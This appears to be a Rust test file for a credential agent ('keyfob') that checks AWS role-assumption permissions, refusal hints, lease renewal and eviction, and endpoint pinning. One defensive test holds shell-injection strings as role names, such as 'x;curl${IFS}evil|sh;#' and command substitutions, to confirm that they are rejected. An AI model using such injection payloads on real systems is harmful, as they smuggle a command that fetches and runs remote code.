//! Roles that a caller names: what the configuration allows, and nothing else.

use keyfob_agent::config::{Ask, EntryName};
use keyfob_agent::lease::NAMED_ROLES;
use keyfob_agent::policy::Permit;
use keyfob_ipc::reply::{AwsCredentials, Reply};
use keyfob_ipc::{Code, Refusal, ToolAsk};
use keyfob_sandbox::Endpoint;

use super::{B, C, CHAIN, chain, role};
use crate::company::{A_MOMENT, Company, HOUR, MINUTE, ROLE};
use crate::programs::{Programs, policy};

const EXTERNAL: &str = "arn:aws:iam::999999999999:role/external-ci";

fn allowing(patterns: &str) -> String {
    CHAIN.replace("sso = \"okta\"\nrole_arn", &format!("sso = \"okta\"\nmay_assume = {patterns}\nrole_arn"))
}

const PATTERN: &str = "[\"arn:aws:iam::*:role/external-*\"]";

async fn ask(company: &Company, name: &str, role_arn: &str) -> Result<AwsCredentials, Refusal> {
    let ask = ToolAsk::CredentialProcess {
        name: name.to_owned(),
        role_arn: Some(role_arn.to_owned()),
        task_role: false,
    };
    match company.agent.tool(ask).await? {
        Reply::AwsCredentials(keys) => Ok(keys),
        other => panic!("not keys: {other:?}"),
    }
}

async fn with_external() -> Company {
    let company = chain(&allowing(PATTERN)).await;
    company.sandbox.sts().set_role(role(EXTERNAL, &[ROLE]));
    company
}

#[tokio::test]
async fn a_role_that_the_pattern_means_is_assumed_with_the_entrys_own_keys() {
    let company = with_external().await;
    let keys = ask(&company, "a", EXTERNAL).await.unwrap();
    assert_eq!(keys.account_id.as_deref(), Some("999999999999"));
    let asked = company.counts().assumed[EXTERNAL].clone();
    assert_eq!(asked.by, "arn:aws:sts::123456789012:assumed-role/OktaRole/ada@example.com");
    assert_eq!((asked.seconds, asked.session_name.as_str()), (3600, "ada@example.com"));
    // It is kept and renewed as any other.
    assert_eq!(ask(&company, "aws.a", EXTERNAL).await.unwrap().access_key_id, keys.access_key_id);
    company.pass(50 * MINUTE);
    assert_ne!(ask(&company, "a", EXTERNAL).await.unwrap().access_key_id, keys.access_key_id);
    // The entry's own keys are none the less its own.
    assert_ne!(company.keys("a").await.unwrap().access_key_id, keys.access_key_id);
}

#[tokio::test]
async fn an_entrys_own_role_and_those_behind_which_it_stands_need_no_pattern() {
    let company = chain(CHAIN).await;
    for (name, role_arn) in [("a", ROLE), ("b", B), ("c", C)] {
        let own = company.keys(name).await.unwrap().access_key_id;
        assert_eq!(ask(&company, "a", role_arn).await.unwrap().access_key_id, own);
    }
    // Not the other way round: `c` leads to no one else.
    assert_eq!(ask(&company, "c", ROLE).await.unwrap_err().code, Code::NotAllowed);
}

#[tokio::test]
async fn any_other_role_is_refused_with_the_line_to_add() {
    let company = chain(&allowing(PATTERN)).await;
    let before = company.sts_calls();
    let other = "arn:aws:iam::999999999999:role/admin";
    let refusal = ask(&company, "a", other).await.unwrap_err();
    assert_eq!(refusal.code, Code::NotAllowed);
    let line = format!("may_assume = [\"arn:aws:iam::*:role/external-*\", \"{other}\"]");
    assert_eq!(refusal.hint, format!("put under [aws.a] of the configuration: {line}"));
    assert_eq!(company.sts_calls(), before);

    // The line is good as it stands.
    company.sandbox.sts().set_role(role(other, &[ROLE]));
    company
        .configure(&CHAIN.replace("sso = \"okta\"\nrole_arn", &format!("sso = \"okta\"\n{line}\nrole_arn")));
    ask(&company, "a", other).await.unwrap();
    // It is `a`'s alone.
    assert_eq!(ask(&company, "b", other).await.unwrap_err().code, Code::NotAllowed);

    // Many patterns make a line that would be cut: never half a line.
    let many = ["\"arn:aws:iam::*:role/some-long-name-*\""; 12].join(", ");
    company.configure(&allowing(&format!("[{many}]")));
    let refusal = ask(&company, "a", "arn:aws:iam::999999999999:role/other").await.unwrap_err();
    let hint =
        "add to `may_assume` under [aws.a] of the configuration: \"arn:aws:iam::999999999999:role/other\"";
    assert_eq!(refusal.hint, hint);

    for none in ["admin", "arn:aws:iam::999999999999:user/x", "arn:aws:iam::*:role/external-*", "a\u{1b}[2J"]
    {
        let refusal = ask(&company, "a", none).await.unwrap_err();
        assert_eq!(refusal.code, Code::BadRequest, "{none}");
        assert!(!refusal.say.contains('\u{1b}'), "{refusal}");
    }
}

#[tokio::test]
async fn nothing_that_a_shell_would_run_comes_back() {
    // The policy asks the person, and what a person is asked names the role.
    let wide = allowing("[\"arn:aws:iam::*:role/*\", \"arn:aws:iam::*:role/team/*\"]");
    let company = chain(&format!("{wide}{}", policy("aws.a", "confirm = \"first\""))).await;
    let programs = Programs::new();
    let before = company.sts_calls();
    let ask = async |role_arn: &str| {
        let ask = ToolAsk::CredentialProcess {
            name: "a".to_owned(),
            role_arn: Some(role_arn.to_owned()),
            task_role: false,
        };
        company.agent.tool_of(ask, &programs.asker("terraform")).await.unwrap_err()
    };
    for path in
        ["x;curl${IFS}evil|sh;#", "$(evil)", "`evil`", "x&evil", "x>evil", "'evil'", "~evil", "x!evil"]
    {
        for role_arn in [format!("arn:aws:iam::123456789012:role/{path}"), path.to_owned()] {
            let refusal = ask(&role_arn).await;
            assert_eq!(refusal.code, Code::BadRequest, "{role_arn}: {refusal}");
            assert!(!format!("{} {}", refusal.say, refusal.hint).contains("evil"), "{refusal:?}");
        }
    }
    // The control: one of IAM's own alphabet is asked about by its name.
    let role_arn = "arn:aws:iam::123456789012:role/team/x+=,.@_-1";
    let refusal = ask(role_arn).await;
    assert_eq!(refusal.code, Code::ApprovalPending, "{refusal}");
    assert_eq!(refusal.hint, format!("keyfob approve aws.a/{role_arn}"));
    assert_eq!(company.sts_calls(), before);
}

#[tokio::test]
async fn a_role_with_an_entry_of_its_own_is_reached_by_no_other() {
    let programs = Programs::new();
    let prod = format!(
        "\n[aws.prod]\nsso = \"okta\"\nrole_arn = \"{EXTERNAL}\"\nregion = \"eu-west-1\"\nendpoint_url = \"STS\"\n"
    );
    let guard = policy("aws.prod", &crate::programs::allow(&programs.path("terraform")));
    let company = with_external().await;
    // The control: without the entry it is anybody's who may have `a`.
    ask(&company, "a", EXTERNAL).await.unwrap();
    let named = EntryName { kind: "aws", name: "a".to_owned() }.of_role(EXTERNAL);
    assert!(company.agent.leases.get(&named).is_some());

    company.configure(&format!("{}{prod}{guard}", allowing(PATTERN)));
    // IAM takes no names that differ in case alone.
    for role_arn in [EXTERNAL.to_owned(), EXTERNAL.replace("external-ci", "external-CI")] {
        let refusal = ask(&company, "a", &role_arn).await.unwrap_err();
        assert_eq!((refusal.code, refusal.hint.as_str()), (Code::NotAllowed, "ask for aws.prod"));
        assert_eq!(
            refusal.say,
            format!("the role `{role_arn}` is that of `aws.prod`, and not reached by another entry")
        );
    }
    assert!(company.agent.leases.get(&named).is_none(), "what was bought before is not kept");
    let refusal = ask(&company, "prod", EXTERNAL).await.unwrap_err();
    assert!(refusal.code == Code::NotAllowed && refusal.say.contains("aws.prod"), "its policy: {refusal}");
}

#[tokio::test]
async fn a_pattern_that_is_taken_out_takes_its_keys_along() {
    let company = with_external().await;
    ask(&company, "a", EXTERNAL).await.unwrap();
    let name = EntryName { kind: "aws", name: "a".to_owned() }.of_role(EXTERNAL);
    assert!(company.agent.leases.get(&name).is_some());
    company.configure(CHAIN);
    assert_eq!(ask(&company, "a", EXTERNAL).await.unwrap_err().code, Code::NotAllowed);
    assert!(company.agent.leases.get(&name).is_none());
    // So does a sign-out.
    company.configure(&allowing(PATTERN));
    ask(&company, "a", EXTERNAL).await.unwrap();
    company.sign_out().await.unwrap();
    assert_eq!(ask(&company, "a", EXTERNAL).await.unwrap_err().code, Code::SignInNeeded);
}

#[tokio::test]
async fn the_policy_of_the_entry_is_that_of_the_roles_behind_it() {
    let programs = Programs::new();
    let lines = crate::programs::allow(&programs.path("terraform"));
    let company = chain(&format!("{}{}", allowing(PATTERN), policy("aws.a", &lines))).await;
    company.sandbox.sts().set_role(role(EXTERNAL, &[ROLE]));
    for role_arn in [EXTERNAL, B] {
        let ask = |asker| {
            let ask = ToolAsk::CredentialProcess {
                name: "a".to_owned(),
                role_arn: Some(role_arn.to_owned()),
                task_role: false,
            };
            let agent = company.agent.clone();
            async move { agent.tool_of(ask, &asker).await }
        };
        assert_eq!(ask(programs.asker("evil")).await.unwrap_err().code, Code::NotAllowed, "{role_arn}");
        // The control: the same for the one that is allowed.
        ask(programs.asker("terraform")).await.unwrap();
    }
}

#[tokio::test]
async fn many_names_fill_no_memory() {
    let company = chain(&allowing(PATTERN)).await;
    let config = company.agent.config().unwrap();
    let base = config.find("a", Ask::AwsCredentials).unwrap().clone();
    let named = |number: usize| format!("arn:aws:iam::999999999999:role/external-{number}");
    let keys = async |number: usize| {
        let entry = config.role_through(&base, &named(number)).unwrap();
        entry.source.aws_credentials(&company.agent, &entry, &Permit::of_a_test()).await
    };
    // Roles that nobody has made: each of them fails.
    for number in 0..NAMED_ROLES + 8 {
        assert_eq!(keys(number).await.unwrap_err().code, Code::RoleRefused);
        assert!(company.agent.states.get(&base.name.of_role(&named(number))).is_none(), "nobody is shown it");
    }
    company.pass(A_MOMENT);
    keys(0).await.unwrap_err();
    assert_eq!(company.agent.flights.remembered(), 1, "what has no say any more is forgotten");

    for number in 0..NAMED_ROLES + 8 {
        company.sandbox.sts().set_role(role(&named(number), &[ROLE]));
    }
    company.pass(A_MOMENT);
    for number in 0..NAMED_ROLES + 8 {
        keys(number).await.unwrap();
    }
    let kept = (0..NAMED_ROLES + 8)
        .filter(|number| company.agent.leases.get(&base.name.of_role(&named(*number))).is_some());
    assert_eq!(kept.count(), NAMED_ROLES);
    assert!(company.agent.leases.get(&base.name).is_some());
}

#[tokio::test]
async fn a_role_that_is_named_goes_to_the_entrys_own_endpoint_and_no_other() {
    let company = with_external().await;
    ask(&company, "a", EXTERNAL).await.unwrap();
    let evil = company.sandbox.addresses().cluster_url.clone();
    let config =
        allowing(PATTERN).replacen("endpoint_url = \"STS\"", &format!("endpoint_url = \"{evil}\""), 1);
    company.configure(&config);
    let refusal = ask(&company, "a", EXTERNAL).await.unwrap_err();
    assert_eq!(refusal.code, Code::DestinationChanged, "{refusal}");
    assert_eq!(company.counts().arrived(Endpoint::Cluster), 0);
    company.pass(HOUR);
}
